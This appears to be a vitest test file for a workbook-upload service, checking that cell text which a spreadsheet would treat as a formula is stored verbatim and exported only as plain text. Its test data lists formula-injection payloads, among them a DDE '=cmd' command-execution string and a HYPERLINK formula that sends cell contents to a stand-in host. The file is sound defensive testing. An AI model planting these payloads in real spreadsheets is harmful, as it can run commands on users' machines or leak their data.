// Text that a spreadsheet would run as a formula: it goes in as text, lies in the store as text and comes out as text.

import { inflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import { expect, test } from 'vitest';
import { cleanWorkbook } from '#src/usecases/clean-workbook.ts';
import { read, workbook } from '#test/adapters/excel/support/workbook.ts';
import { testDatabase } from '#test/support/database.ts';
import { productOver } from '#test/support/product.ts';
import { person } from '#test/support/stored.ts';

const database = await testDatabase();
const { app, ports } = productOver(database);
const ann = await person(database);

const hostile = [
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
  '+1+1',
  '-1+1',
  '-cmd',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '=',
  '%0A=1',
];

const escaped = (value: string) => value.replace(/[&<"\t\r]/g, (each) => `&#${each.charCodeAt(0)};`);
const text = (value: string) => `<c t="inlineStr"><is><t xml:space="preserve">${escaped(value)}</t></is></c>`;
const headings = ['EAN', 'Product', 'Quantity', 'Amount', 'Currency', 'Date'].map(text).join('');
const rows = hostile.map(
  (name, at) =>
    `<row><c/>${text(name)}<c><v>${at + 1}</v></c><c><v>-9.5</v></c>${text('EUR')}${text('2025-04-01')}</row>`,
);

async function uploaded(): Promise<string> {
  const bytes = workbook({ sheets: [`<row>${headings}</row>${rows.join('')}`] });
  const { upload } = await app.receive({ name: 'Sales 04-2025.xlsx', bytes, principal: ann, reply: null });
  return upload.id;
}

/** Every part of an archive as text. */
function partsOf(bytes: Buffer): string {
  let all = '';
  for (let at = bytes.indexOf('PK\x01\x02', 0, 'latin1'); at >= 0; at = bytes.indexOf('PK\x01\x02', at + 4, 'latin1')) {
    const local = bytes.readUInt32LE(at + 42);
    const from = local + 30 + bytes.readUInt16LE(local + 26) + bytes.readUInt16LE(local + 28);
    const packed = bytes.subarray(from, from + bytes.readUInt32LE(at + 20));
    all += bytes.readUInt16LE(at + 10) === 0 ? packed.toString() : inflateRawSync(packed).toString();
  }
  return all;
}

test('is stored as it came, and the clean workbook holds it as text and no formula at all', async () => {
  const id = await uploaded();
  const stored: string[] = [];
  for await (const row of ports.batches.rows(id)) stored.push(row.rawProduct ?? '');
  const held = (await ports.batches.quarantined(id)).map(({ raw }) => Object.values(raw).join(' '));
  // Blanks at the ends mean nothing in a name.
  for (const each of hostile) expect([...stored, ...held].join('\n')).toContain(each.trim());

  const exported = Buffer.from(await cleanWorkbook(ports, id));
  const parts = partsOf(exported);
  expect(parts).not.toMatch(/<(\w+:)?f[\s>/]/);
  expect(parts).not.toMatch(/<(\w+:)?(hyperlink|externalReference|ddeLink)\b/i);
  const cells = (await read(exported)).sheets.flatMap((sheet) => sheet.rows.flatMap((row) => row.cells));
  for (const name of stored) expect(cells).toContain(name);
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(exported as unknown as ExcelJS.Buffer);
  for (const sheet of book.worksheets)
    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
});

test('numbers stay numbers in the clean workbook, negative ones too', async () => {
  const exported = await cleanWorkbook(ports, await uploaded());
  const cells = (await read(exported)).sheets[0]!.rows.flatMap((row) => row.cells);
  const numbers = cells.flatMap((cell) => (typeof cell === 'object' && cell?.kind === 'number' ? [cell.value] : []));
  expect(numbers.filter((value) => value === -9.5).length).toBeGreaterThan(0);
});
